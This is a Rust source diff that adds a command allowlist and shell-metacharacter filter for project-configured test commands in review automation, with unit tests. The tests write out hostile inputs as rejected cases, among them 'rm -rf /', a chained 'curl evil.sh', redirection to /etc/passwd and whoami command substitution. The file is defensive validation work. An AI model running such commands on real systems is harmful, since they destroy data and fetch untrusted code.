@@ -0,0 +1,113 @@
+//! Allowlist for the test and gate commands projects can configure for review automation.
+//!
+//! Project review settings are editable by anyone with access to the project, so the commands
+//! they hold are checked against a host-wide policy from the global config: the program must be
+//! on the allowlist, and shell metacharacters are rejected unless the config permits them.
+
+/// Programs allowed when the config doesn't set its own allowlist
+pub const DEFAULT_ALLOWED_PROGRAMS: [&str; 16] = [
+    "cargo", "npm", "pnpm", "yarn", "npx", "bun", "deno", "pytest", "python", "python3", "go",
+    "make", "mvn", "gradle", "dotnet", "bundle",
+];
+
+/// Characters that let a command chain, redirect or substitute when run through a shell
+const SHELL_METACHARACTERS: [char; 13] = [
+    ';', '&', '|', '$', '`', '<', '>', '(', ')', '{', '}', '\n', '\r',
+];
+
+/// Which commands project settings may run
+#[derive(Debug, Clone)]
+pub struct CommandPolicy {
+    allowed_programs: Vec<String>,
+    allow_shell_metacharacters: bool,
+}
+
+impl CommandPolicy {
+    /// Build the policy from the config's allowlist (None: [`DEFAULT_ALLOWED_PROGRAMS`])
+    pub fn new(allowed_programs: Option<&[String]>, allow_shell_metacharacters: bool) -> Self {
+        let allowed_programs = match allowed_programs {
+            Some(programs) => programs.to_vec(),
+            None => DEFAULT_ALLOWED_PROGRAMS
+                .iter()
+                .map(|program| program.to_string())
+                .collect(),
+        };
+        Self {
+            allowed_programs,
+            allow_shell_metacharacters,
+        }
+    }
+
+    /// Check a command against the policy. Errors say why it was rejected.
+    pub fn check(&self, command: &str) -> Result<(), String> {
+        let command = command.trim();
+        if !self.allow_shell_metacharacters
+            && let Some(c) = command.chars().find(|c| SHELL_METACHARACTERS.contains(c))
+        {
+            return Err(format!(
+                "command '{command}' contains shell metacharacter {c:?}, which the config doesn't allow"
+            ));
+        }
+
+        let Some(program) = command.split_whitespace().next() else {
+            return Err("command is empty".to_string());
+        };
+        if !self
+            .allowed_programs
+            .iter()
+            .any(|allowed| allowed == program)
+        {
+            return Err(format!(
+                "program '{program}' is not on the test command allowlist ({})",
+                self.allowed_programs.join(", ")
+            ));
+        }
+        Ok(())
+    }
+}
+
+impl Default for CommandPolicy {
+    fn default() -> Self {
+        Self::new(None, false)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn allows_listed_programs_only() {
+        let policy = CommandPolicy::default();
+        assert!(policy.check("cargo test -p db").is_ok());
+        assert!(policy.check("  pnpm test").is_ok());
+        assert!(policy.check("rm -rf /").is_err());
+        assert!(policy.check("/usr/bin/cargo test").is_err());
+        assert!(policy.check("   ").is_err());
+
+        let custom = CommandPolicy::new(Some(&["./scripts/check.sh".to_string()]), false);
+        assert!(custom.check("./scripts/check.sh --strict").is_ok());
+        assert!(custom.check("cargo test").is_err());
+    }
+
+    #[test]
+    fn rejects_shell_metacharacters_unless_permitted() {
+        let policy = CommandPolicy::default();
+        for command in [
+            "cargo test; curl evil.sh",
+            "cargo test && rm -rf /",
+            "npm test | tee out",
+            "npm test $(whoami)",
+            "npm test `whoami`",
+            "cargo test > /etc/passwd",
+            "cargo test\nrm -rf /",
+        ] {
+            let err = policy.check(command).unwrap_err();
+            assert!(err.contains("metacharacter"), "{command:?}: {err}");
+        }
+
+        let permissive = CommandPolicy::new(None, true);
+        assert!(permissive.check("cargo test && cargo clippy").is_ok());
+        assert!(permissive.check("rm -rf / && cargo test").is_err());
+    }
+}